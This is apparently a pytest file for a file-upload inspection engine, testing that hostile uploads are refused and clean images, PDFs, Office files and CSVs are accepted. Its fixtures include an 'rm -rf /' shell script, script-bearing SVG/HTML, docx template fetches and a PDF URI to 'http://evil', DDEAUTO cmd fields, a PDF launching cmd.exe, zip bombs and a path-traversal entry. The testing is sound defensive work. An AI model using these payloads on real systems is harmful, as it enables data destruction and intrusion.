"""Which content comes in, which is refused and why: the checks themselves, in this process."""

from __future__ import annotations

import contextlib
import io
import zipfile
from collections.abc import Callable

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from PIL import Image
from pypdf.generic import ArrayObject, DictionaryObject, NameObject, NumberObject

from jichi.engines.files import inspection
from jichi.engines.files.rules import signatures
from jichi.engines.files.rules.images import clean_picture
from jichi.engines.files.rules.pdfs import check_pdf
from jichi.engines.files.rules.refusal import Refused

from . import hostile

ALL = ("pdf", "image", "docx", "xlsx", "csv", "text")
SVG = b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'

REFUSED: dict[str, tuple[Callable[[], bytes], str, str]] = {
    "svg": (lambda: SVG, "file.unsafe", "svg"),
    "svg after xml head": (lambda: b'\xef\xbb\xbf<?xml version="1.0"?>\n<!-- a -->' + SVG, "file.unsafe", "svg"),
    "svg in utf-16": (lambda: b"\xff\xfe" + SVG.decode().encode("utf-16-le"), "file.unsafe", "svg"),
    "html": (lambda: b"<!DOCTYPE html><p>x", "file.unsafe", "html"),
    "html after words": (lambda: b"hello\n<script>alert(1)</script>", "file.unsafe", "html"),
    "program of Windows": (lambda: b"MZ\x90\0" + b"\0" * 99, "file.unsafe", "executable"),
    "program of Linux": (lambda: b"\x7fELF" + b"\0" * 99, "file.unsafe", "executable"),
    "shell script": (lambda: b"#!/bin/sh\nrm -rf /\n", "file.unsafe", "script"),
    "zip": (lambda: hostile.archive({"a.txt": b"a"}), "file.unsafe", "archive"),
    "jar": (
        lambda: hostile.archive({"META-INF/MANIFEST.MF": b"", "A.class": b"\xca\xfe\xba\xbe"}),
        "file.unsafe",
        "archive",
    ),
    "old word file, may hold macros": (
        lambda: b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 600,
        "file.unsafe",
        "ole2",
    ),
    "docx with macros": (
        lambda: hostile.office("docx", {"word/vbaProject.bin": b"\xd0\xcf\x11\xe0"}),
        "file.unsafe",
        "macro",
    ),
    "docm renamed": (
        lambda: hostile.office("docx", main_type="application/vnd.ms-word.document.macroEnabled.main+xml"),
        "file.unsafe",
        "macro",
    ),
    "docx with a program inside": (
        lambda: hostile.office("docx", {"word/embeddings/oleObject1.bin": b"x"}),
        "file.unsafe",
        "embedded",
    ),
    "docx with a zip named as picture": (
        lambda: hostile.office("docx", {"word/media/image1.png": hostile.archive({"a": b"a"})}),
        "file.unsafe",
        "embedded",
    ),
    "docx that fetches a template": (
        lambda: hostile.office(
            "docx",
            {
                "word/_rels/settings.xml.rels": b'<Relationships><Relationship Type="http://x/attachedTemplate" '
                b'Target="http://evil/x.dotm" TargetMode="External"/></Relationships>'
            },
        ),
        "file.unsafe",
        "external",
    ),
    "docx with a DDE field": (
        lambda: hostile.office("docx", {"word/footer1.xml": b"<w:instrText>DDEAUTO cmd</w:instrText>"}),
        "file.unsafe",
        "external",
    ),
    "xlsx with DDE": (
        lambda: hostile.office("xlsx", {"xl/externalLinks/externalLink1.xml": b"<ddeLink ddeService='cmd'/>"}),
        "file.unsafe",
        "embedded",
    ),
    "docx with entities": (
        lambda: hostile.office("docx", {"word/a.xml": b'<!DOCTYPE x [<!ENTITY a "b">]><x/>'}),
        "file.unsafe",
        "entity",
    ),
    "zip bomb": (lambda: hostile.office("docx", {"word/a.xml": b"\0" * 30_000_000}), "file.unsafe", "bomb"),
    "zip bomb of overlapping entries": (hostile.overlapping_bomb, "file.unsafe", "bomb"),
    "zip bomb that lies about its size": (hostile.lying_bomb, "file.unsafe", "bomb"),
    "docx with two names for one part": (
        lambda: hostile.office("docx", {"word/a.xml": b"<x/>"}).replace(b"word/a.xml", b"word/b.xml", 1),
        "file.unsafe",
        "zip",
    ),
    "docx packed in a rare way": (
        lambda: hostile.archive(
            {"[Content_Types].xml": hostile.DOCX_MAIN.encode(), "word/document.xml": b"<x/>"}, zipfile.ZIP_BZIP2
        ),
        "file.unsafe",
        "zip",
    ),
    "docx with a path": (lambda: hostile.office("docx", {"../../etc/x": b"a"}), "file.unsafe", "zip"),
    "docx behind something": (lambda: hostile.office("docx") + b"trailing", "file.unsafe", "zip"),
    "pixels": (hostile.png_of_huge_size, "file.unsafe", "pixels"),
    "cut off jpeg": (lambda: hostile.picture()[:300], "file.unreadable", "picture"),
    "jpeg in name only": (lambda: b"\xff\xd8\xff\xe0" + b"\0" * 100, "file.unreadable", "picture"),
    "pdf with script on opening": (hostile.pdf_javascript, "file.unsafe", "action"),
    "pdf with script on a link": (
        lambda: hostile.pdf_with_annotation("/Link", hostile.action("/JavaScript")),
        "file.unsafe",
        "javascript",
    ),
    "pdf with named script": (
        lambda: hostile.pdf_with_root("/Names", DictionaryObject({NameObject("/JavaScript"): ArrayObject([])})),
        "file.unsafe",
        "javascript",
    ),
    "pdf with file": (hostile.pdf_attachment, "file.unsafe", "embedded"),
    "pdf with password": (hostile.pdf_encrypted, "file.unsafe", "encrypted"),
    "pdf with hidden script": (hostile.pdf_hidden_object, "file.unsafe", "javascript"),
    "pdf with broken script": (hostile.pdf_unparsable_object, "file.unsafe", "action"),
    "pdf with packed script": (hostile.pdf_packed_object, "file.unsafe", "javascript"),
    "pdf that launches": (
        lambda: hostile.pdf_with_annotation("/Link", hostile.action("/Launch", F=hostile.text("cmd.exe"))),
        "file.unsafe",
        "launch",
    ),
    "pdf that sends": (
        lambda: hostile.pdf_with_annotation("/Widget", hostile.action("/SubmitForm")),
        "file.unsafe",
        "action",
    ),
    "pdf with film": (lambda: hostile.pdf_with_annotation("/RichMedia"), "file.unsafe", "media"),
    "pdf that opens an address": (
        lambda: hostile.pdf_with_root("/OpenAction", hostile.action("/URI", URI=hostile.text("http://evil"))),
        "file.unsafe",
        "action",
    ),
    "pdf with actions on events": (
        lambda: hostile.pdf_with_root("/AA", DictionaryObject()),
        "file.unsafe",
        "action",
    ),
    "pdf with xfa": (
        lambda: hostile.pdf_with_root(
            "/AcroForm", DictionaryObject({NameObject("/XFA"): ArrayObject([]), NameObject("/Fields"): ArrayObject([])})
        ),
        "file.unsafe",
        "xfa",
    ),
    "pdf with zip behind": (
        lambda: hostile.written(hostile.pdf()) + hostile.archive({"a": b"a"}),
        "file.unsafe",
        "polyglot",
    ),
    "pdf with zip behind and a second end": (
        lambda: hostile.written(hostile.pdf()) + hostile.archive({"a": b"a"})[:-2] + b"\x06\0%%EOF\n",
        "file.unsafe",
        "polyglot",
    ),
    "pdf not at the beginning": (
        lambda: b"\0\x01\x02junk\n" + hostile.written(hostile.pdf()),
        "file.unsafe",
        "polyglot",
    ),
    "pdf without an end": (lambda: hostile.written(hostile.pdf())[:-10], "file.unreadable", "pdf"),
    "pdf in name only": (lambda: b"%PDF-1.7\nnothing\n%%EOF\n", "file.unreadable", "pdf"),
    "photo of a new telephone": (lambda: b"\0\0\0\x18ftypheic\0\0\0\0mif1heic", "file.type", "heic"),
    "bytes": (lambda: bytes(range(256)), "file.type", "unknown"),
}


@pytest.mark.parametrize("name", REFUSED)
def test_refuses(name: str) -> None:
    make, code, reason = REFUSED[name]
    with pytest.raises(Refused) as refused:
        inspection.examine(make(), ALL)
    assert (refused.value.code, refused.value.reason) == (code, reason)


ACCEPTED: dict[str, tuple[Callable[[], bytes], str]] = {
    "jpeg": (lambda: hostile.picture("JPEG"), "image/jpeg"),
    "png": (lambda: hostile.picture("PNG"), "image/png"),
    "gif": (lambda: hostile.picture("GIF"), "image/png"),
    "webp": (lambda: hostile.picture("WEBP"), "image/jpeg"),
    "webp, see-through": (lambda: hostile.picture("WEBP", mode="RGBA"), "image/png"),
    "grey jpeg": (lambda: hostile.picture("JPEG", mode="L"), "image/jpeg"),
    "cmyk jpeg": (lambda: hostile.picture("JPEG", mode="CMYK"), "image/jpeg"),
    "pdf": (lambda: hostile.written(hostile.pdf(3)), "application/pdf"),
    "pdf that opens at a page": (
        lambda: hostile.pdf_with_root("/OpenAction", ArrayObject([NumberObject(0), NameObject("/Fit")])),
        "application/pdf",
    ),
    "pdf with a link": (
        lambda: hostile.pdf_with_annotation("/Link", hostile.action("/URI", URI=hostile.text("https://example.jp"))),
        "application/pdf",
    ),
    "docx": (lambda: hostile.office("docx"), inspection._OFFICE_TYPES["docx"]),
    "xlsx with printer settings": (
        lambda: hostile.office("xlsx", {"xl/printerSettings/printerSettings1.bin": b"a"}),
        inspection._OFFICE_TYPES["xlsx"],
    ),
    "csv in shift_jis": (lambda: "氏名,住所\r\n髙橋,みどり区\r\n".encode("cp932"), "text/csv"),
    "csv in utf-8": ("\ufeff氏名,住所\n𠮷田,<不明>\n".encode, "text/csv"),
}


@pytest.mark.parametrize("name", ACCEPTED)
def test_accepts(name: str) -> None:
    make, media_type = ACCEPTED[name]
    data = make()
    found = inspection.examine(data, ALL)
    assert found.media_type == media_type
    if media_type.startswith("image/"):
        assert found.thumbnail is not None
        with Image.open(io.BytesIO(found.data)) as image:
            assert image.size == (60, 40)
            left, right = image.convert("RGB").getpixel((5, 5)), image.convert("RGB").getpixel((55, 5))
            assert left[0] > 60  # type: ignore[index]  # a colour of three parts
            if "grey" not in name:
                assert left[0] > 200  # type: ignore[index]  # red
                assert right[2] > 200  # type: ignore[index]  # blue
    else:
        assert found.data == data


@pytest.mark.parametrize(("make", "kind"), [(hostile.picture, "jpeg"), (lambda: hostile.office("docx"), "docx")])
def test_what_is_fine_elsewhere_is_refused_where_it_is_not_asked_for(make: object, kind: str) -> None:
    with pytest.raises(Refused) as refused:
        inspection.examine(make(), ("pdf",))  # type: ignore[operator]  # parametrised callables
    assert (refused.value.code, refused.value.reason) == ("file.type", kind)


def test_a_photo_loses_place_maker_and_comment_and_stands_upright() -> None:
    before = hostile.photo_with_place()
    assert b"SecretMaker" in before
    assert b"private comment" in before
    after, small = clean_picture(before, "jpeg")
    with Image.open(io.BytesIO(after.data)) as image:
        assert image.size == (40, 60) == (after.width, after.height)
        assert dict(image.getexif()) == {}
        assert set(image.info) <= {"jfif", "jfif_version", "jfif_unit", "jfif_density"}
    assert b"SecretMaker" not in after.data
    assert b"private comment" not in after.data
    assert (small.width, small.height) == (40, 60)


@pytest.mark.parametrize("kind", ["JPEG", "PNG", "GIF"])
def test_whatever_hangs_behind_a_picture_is_gone(kind: str) -> None:
    jar = hostile.archive({"A.class": b"\xca\xfe\xba\xbe"}, zipfile.ZIP_STORED)
    both = hostile.picture(kind) + jar
    assert zipfile.is_zipfile(io.BytesIO(both))
    full, small = clean_picture(both, kind.lower())
    assert not zipfile.is_zipfile(io.BytesIO(full.data))
    assert b"PK" not in full.data[-100:]
    assert b"\xca\xfe\xba\xbe" not in small.data


def test_a_thumbnail_is_at_most_320_pixels() -> None:
    _, small = clean_picture(hostile.picture("JPEG", (1000, 500)), "jpeg")
    assert (small.width, small.height, small.media_type) == (320, 160, "image/jpeg")


def test_counts_pages() -> None:
    assert check_pdf(hostile.written(hostile.pdf(3))) == 3


@given(st.binary(max_size=300))
@settings(max_examples=300)
def test_any_bytes_get_a_kind_and_never_an_error(data: bytes) -> None:
    assert signatures.sniff(data)


@given(st.sampled_from(["jpeg", "png", "gif", "webp"]), st.integers(0, 400), st.binary(min_size=1, max_size=8))
@settings(max_examples=150, deadline=None)
def test_damaged_pictures_are_refused_or_become_clean_ones(kind: str, at: int, noise: bytes) -> None:
    data = bytearray(hostile.picture(kind.upper()))
    data[at : at + len(noise)] = noise
    with contextlib.suppress(Refused):  # anything else would be an error
        full, _ = clean_picture(bytes(data), kind)
        assert signatures.sniff(full.data) in {"jpeg", "png"}


@given(st.integers(0, 600), st.binary(min_size=1, max_size=12))
@settings(max_examples=150, deadline=None)
def test_damaged_pdfs_are_refused_or_counted(at: int, noise: bytes) -> None:
    data = bytearray(hostile.written(hostile.pdf()))
    data[at : at + len(noise)] = noise
    with contextlib.suppress(Refused):
        assert check_pdf(bytes(data)) >= 1
